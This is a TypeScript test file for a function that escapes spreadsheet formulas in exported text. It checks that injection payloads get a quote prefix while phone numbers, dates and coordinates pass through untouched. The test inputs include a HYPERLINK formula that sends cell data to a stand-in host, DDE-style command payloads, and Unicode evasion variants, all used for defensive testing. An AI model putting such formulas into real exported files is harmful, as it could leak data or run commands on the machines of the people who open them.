import fc from 'fast-check';
import { expect, test } from 'vitest';
import { escapeFormulas } from '../../../src/output/formats/escape-formulas.ts';
import { anyText } from '../../support/small-table.ts';

test.each([
  '=1+1',
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '@SUM(A1:A9)',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  ' =1',
  '\u00a0=1',
  '\ufeff=1',
  '\u200b\u200b@x',
  '\u2060=1',
  '\u3164=1',
  '\0=1',
  '\tname',
  '\nname',
  '\rname',
  '＝1+1',
  '＋27821234567',
  '－1',
  '＠x',
  '﹦1',
  '+27 82 123 4567=1',
  '+1 (2)',
  '+1 234 567 890 123 456',
  '-5+A1',
  '--5',
  '-',
  '+',
  '-0x1F',
  '=1 +27821234567',
  '+1 234 5',
])('guards %j', (text) => {
  expect(escapeFormulas(text)).toBe(`'${text}`);
});

test.each([
  ['Ann;=1+1;', "Ann;'=1+1;"],
  [';=1', ";'=1"],
  ['vip; =new', "vip;' =new"],
  ['a|-b', "a|'-b"],
  ['a\t@SUM(1)', "a\t'@SUM(1)"],
  ['Ann,=1', "Ann,'=1"],
  ['Notes:\n=1\r\n+cmd', "Notes:\n'=1\r\n'+cmd"],
  ['a\u2028=1', "a\u2028'=1"],
  ['a\v=1', "a\v'=1"],
  ['a\f=1', "a\f'=1"],
  ['a;\u200b＝1', "a;'\u200b＝1"],
  ['a;"=1"', 'a;\'"=1"'],
  ['-5;=1', "'-5;'=1"],
  ['\n=1', "'\n'=1"],
  ['\t=1', "'\t'=1"],
  ['+27 82 123 4567\n=1', "'+27 82 123 4567\n'=1"],
  ['=1;=2', "'=1;'=2"],
])('guards each part of %j', (text, escaped) => {
  expect(escapeFormulas(text)).toBe(escaped);
});

test.each([
  ['+27821234567; +27 83 123 4567'],
  ['vip; -5; +3.5'],
  ['[18.42,-33.92]'],
  ['{"at":[18.42,-33.92],"phone":["a","+27821234567"]}'],
  ['2026-11-01T09:30:00+02:00; 2026-11-02T09:30:00Z'],
  ['thandi@example.com, zoe-k@example.com'],
])('leaves the parts of %j', (text) => {
  expect(escapeFormulas(text)).toBe(text);
});

test('where quotes are not doubled, a reader may strip them', () => {
  expect(escapeFormulas('"=1+1"', true)).toBe('\'"=1+1"');
});

test.each([
  '',
  'Thandi',
  '"=1+1"',
  "'=1",
  'a=1',
  '+27821234567',
  '+27 82 123 4567',
  '+27\u00a082\u00a0123\u00a04567',
  '+1-800-555-0199',
  '+1 (800) 555.0199',
  ' +27821234567',
  '-5',
  '+3.5',
  '-1e5',
  '-1,234.50',
  '-.5',
  '-.55',
  '-1e55',
  '-1e+5',
  '+12 3456',
  '27821234567',
  'Ελένη',
  '王小明',
])('leaves %j', (text) => {
  expect(escapeFormulas(text)).toBe(text);
});

test('whatever goes in, and wherever it is split, no formula comes out', () => {
  const separators = fc.constantFrom<string | RegExp>(';', ',', '|', '\t', /\r\n|[\r\n]/);
  fc.assert(
    fc.property(anyText, separators, (text, separator) => {
      const escaped = escapeFormulas(text);
      escaped.split(separator).forEach((part, at) => {
        if (!(at === 0 ? /^\s*[=+\-@＝＋－＠]/ : /^[\s"]*[=+\-@＝＋－＠]/).test(part)) return;
        expect(part).toMatch(/^["\s]*[+-][\d .,;|()e\s\]}"+-]+$/i);
      });
      expect(escaped).not.toMatch(/^[\t\r\n]/);
      expect(escaped.replaceAll("'", '')).toBe(text.replaceAll("'", ''));
    }),
    { numRuns: 3000 },
  );
});

test('a phone of fifteen digits, the most there are, is left as it is', () => {
  for (const phone of ['+123456789012345', '+123 456 789 012 345', 'work;+123456789012345']) {
    expect(escapeFormulas(phone)).toBe(phone);
  }
});
